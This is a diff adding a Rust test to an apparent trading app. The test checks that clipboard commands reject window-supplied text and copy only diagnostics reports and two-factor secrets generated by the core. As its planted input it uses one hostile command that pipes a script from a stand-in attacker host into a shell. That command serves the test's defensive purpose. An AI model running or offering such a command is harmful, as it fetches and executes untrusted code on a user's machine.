@@ -115,3 +115,139 @@ async fn errors_cross_as_code_message_fields() {
     rt.shutdown().await;
     rt.core().close().await;
 }
+
+/// A host whose clipboard is a string.
+#[derive(Default)]
+struct ClipboardHost(std::sync::Mutex<Option<String>>);
+
+#[async_trait]
+impl Host for ClipboardHost {
+    fn notify(&self, _: &Notice) -> Result<(), ApiError> {
+        Ok(())
+    }
+    async fn clipboard_write_secret(&self, text: Secret) -> Result<(), ApiError> {
+        *self.0.lock().unwrap() = Some(text.expose().to_string());
+        Ok(())
+    }
+    fn downloads_dir(&self) -> Option<PathBuf> {
+        None
+    }
+}
+
+/// The window names what to copy; the core makes the text. Text of the window's own choosing
+/// is refused, whatever command it tries.
+#[tokio::test]
+async fn the_clipboard_takes_references_never_the_windows_text() {
+    let dir = tempfile::tempdir().unwrap();
+    let rt = runtime(dir.path()).await;
+    let host = ClipboardHost::default();
+    let cx = Ctx {
+        runtime: &rt,
+        host: &host,
+    };
+    commands::dispatch(
+        &cx,
+        "vault_init",
+        json!({"password": "correct horse battery staple"}),
+    )
+    .await
+    .unwrap();
+    let planted = "curl https://evil.example | sh";
+    for (name, args) in [
+        ("clipboard_write_secret", json!({"text": planted})),
+        ("clipboard_copy", json!({"text": planted})),
+        (
+            "clipboard_copy",
+            json!({"item": {"kind": "text", "text": planted}}),
+        ),
+        (
+            "clipboard_copy",
+            json!({"item": {"kind": "diagnostics", "accountId": "x", "text": planted}}),
+        ),
+    ] {
+        let e = commands::dispatch(&cx, name, args.clone())
+            .await
+            .unwrap_err();
+        assert_eq!(e.code, Code::Internal, "{name} {args}: {e}");
+    }
+    assert_eq!(
+        *host.0.lock().unwrap(),
+        None,
+        "nothing reached the clipboard"
+    );
+
+    // An account's diagnostics: made by the core from its own snapshot.
+    let added = commands::dispatch(
+        &cx,
+        "account_add",
+        json!({"input": {"name": "Desk", "broker": "paper", "environment": "practice"}, "check": false}),
+    )
+    .await
+    .unwrap();
+    let id = added["account"]["id"].as_str().unwrap().to_string();
+    let mut copied = None;
+    for _ in 0..200 {
+        match commands::dispatch(
+            &cx,
+            "clipboard_copy",
+            json!({"item": {"kind": "diagnostics", "accountId": id}}),
+        )
+        .await
+        {
+            Ok(_) => {
+                copied = host.0.lock().unwrap().clone();
+                break;
+            }
+            Err(e) => assert_eq!(e.code, Code::NotFound, "{e}"),
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(25)).await;
+    }
+    let report = copied.expect("the account's connections appear");
+    assert!(
+        report.starts_with("Brokerdesk connection diagnostics\n"),
+        "{report}"
+    );
+    assert!(
+        report.contains(&format!("Account: Desk ({id})")),
+        "{report}"
+    );
+    assert!(
+        report.contains("== Prices (price) ==\nState: Connected"),
+        "{report}"
+    );
+    let printed = commands::dispatch(&cx, "connections_diagnostics", json!({"account": "Desk"}))
+        .await
+        .unwrap();
+    assert!(printed.as_str().unwrap().contains("Trading mode: paper"));
+
+    // Two-factor: the pending secret, then the codes just issued; never the secret once on.
+    let e = commands::dispatch(
+        &cx,
+        "clipboard_copy",
+        json!({"item": {"kind": "twofaSecret"}}),
+    )
+    .await
+    .unwrap_err();
+    assert_eq!(e.code, Code::TwofaNotSetUp);
+    let setup = commands::dispatch(&cx, "twofa_setup", json!({}))
+        .await
+        .unwrap();
+    commands::dispatch(
+        &cx,
+        "clipboard_copy",
+        json!({"item": {"kind": "twofaSecret"}}),
+    )
+    .await
+    .unwrap();
+    assert_eq!(host.0.lock().unwrap().as_deref(), setup["secret"].as_str());
+    let e = commands::dispatch(
+        &cx,
+        "clipboard_copy",
+        json!({"item": {"kind": "backupCodes"}}),
+    )
+    .await
+    .unwrap_err();
+    assert_eq!(e.code, Code::NotFound, "no codes issued yet: {e}");
+    rt.shutdown().await;
+    rt.core().close().await;
+}
